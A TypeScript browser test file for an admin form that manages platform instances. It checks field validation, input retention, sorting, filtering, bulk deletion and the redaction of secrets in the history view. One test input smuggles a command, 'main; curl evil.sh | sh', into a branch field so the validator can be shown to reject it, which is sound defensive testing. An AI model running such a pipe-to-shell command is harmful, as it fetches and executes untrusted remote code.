// The instance form in a real Chromium: submitted with mistakes, the page comes back with each
// message next to its field and what was typed still there. The screenshot is for a person to check.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Browser } from "playwright-core";
import { startTestApp, type TestApp } from "../helpers/app.js";
import { launchBrowser, screenshot } from "../helpers/browser.js";
import { createLoginLink } from "../../src/domain/auth/login-links.js";
import { makeInstance } from "../helpers/factories.js";

describe("instance form in a browser", () => {
  let t: TestApp;
  let browser: Browser;
  beforeAll(async () => {
    t = await startTestApp();
    browser = await launchBrowser();
  });
  afterAll(async () => {
    await browser?.close();
    await t?.close();
  });

  it("shows every error next to its field, keeps the input, and saves nothing", async () => {
    await makeInstance(t.deps, { name: "Taken", slug: "taken", internalLmsDomain: "taken.example.com" });
    const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
    await page.goto(`${t.url}/login/${await createLoginLink(t.deps)}`);
    await page.goto(`${t.url}/admin/instances/add`);
    await page.fill("#id_name", "Demo university");
    await page.fill("#id_internalLmsDomain", "lms.demo.example.com");
    await page.fill("#id_studioDomain", "studio.taken.example.com");
    await page.fill("#id_externalDomains", "courses.demo.example.com\nnot a domain");
    await page.fill("#id_edxPlatformBranch", "main; curl evil.sh | sh");
    await page.fill("#id_extraAnsibleVars", "- just\n- a list\n");
    await page.fill("#id_appserverCount", "12");
    await page.fill("#id_pullRequestUrl", "http://github.com/openedx/edx-platform/pull/abc");
    await page.click("button[value=list]");
    await page.waitForSelector(".errornote");

    const errorOf = (name: string) => page.textContent(`#field-${name} .field-error`);
    expect(await page.textContent(".errornote")).toContain("Please correct the errors below.");
    expect(await errorOf("studioDomain")).toContain('studio.taken.example.com is already used by instance "Taken" (its Studio domain)');
    expect(await errorOf("externalDomains")).toContain('"not a domain" is not a valid domain name');
    expect(await errorOf("edxPlatformBranch")).toContain('Contains ";"');
    expect(await errorOf("extraAnsibleVars")).toContain("not a list");
    expect(await errorOf("appserverCount")).toContain("from 1 to 10");
    expect(await errorOf("pullRequestUrl")).toContain("https:// URL");
    expect(await page.inputValue("#id_name")).toBe("Demo university");
    expect(await page.inputValue("#id_externalDomains")).toBe("courses.demo.example.com\nnot a domain");
    expect(await page.inputValue("#id_appserverCount")).toBe("12");
    expect(await t.deps.db.instance.count()).toBe(1);
    await screenshot(page, "instance-form-errors");
  });

  it("sorts by clicking a header, filters, and deletes a selection through the confirmation page", async () => {
    for (const n of ["Alpha", "Bravo", "Charlie"]) await makeInstance(t.deps, { name: `${n} College`, internalLmsDomain: `lms.${n.toLowerCase()}.example.com` });
    const page = await browser.newPage({ viewport: { width: 1280, height: 800 } });
    await page.goto(`${t.url}/login/${await createLoginLink(t.deps)}`);
    await page.goto(`${t.url}/admin/instances`);
    await page.click("th.sortable >> text=Name");
    const firstName = () => page.textContent("table.changelist-table tbody tr:first-child td:nth-child(2)");
    expect(await firstName()).toBe("Taken");
    expect(page.url()).toBe(`${t.url}/admin/instances?o=-name`);
    await page.fill("input[type=search]", "college");
    await page.press("input[type=search]", "Enter");
    expect(await firstName()).toBe("Charlie College");
    await screenshot(page, "instance-change-list");

    await page.check('input[aria-label="Select Alpha College"]');
    await page.check('input[aria-label="Select Bravo College"]');
    await page.click(".actions-bar button");
    expect(await page.textContent("h1")).toBe("Delete 2 instances?");
    await screenshot(page, "instance-bulk-delete");
    await page.click("text=Yes, delete");
    expect(await page.textContent(".flash-ok")).toBe("Deleted 2 instances.");
    expect((await t.deps.db.instance.findMany({ orderBy: { name: "asc" } })).map((i) => i.name)).toEqual(["Charlie College", "Taken"]);

    const charlie = await t.deps.db.instance.findFirstOrThrow({ where: { name: "Charlie College" } });
    await page.goto(`${t.url}/admin/instances/${charlie.id}`);
    await page.fill("#id_externalDomains", "charlie.edu");
    await page.fill("#id_extraAnsibleVars", "EDXAPP_PLATFORM_NAME: Charlie\nSMTP_PASSWORD: hunter2\n");
    await page.click("button[value=continue]");
    await page.click("text=History");
    expect(await page.textContent("h1")).toBe("History: Charlie College");
    expect(await page.textContent("ol.history")).not.toContain("hunter2");
    await screenshot(page, "instance-history");
  });
});
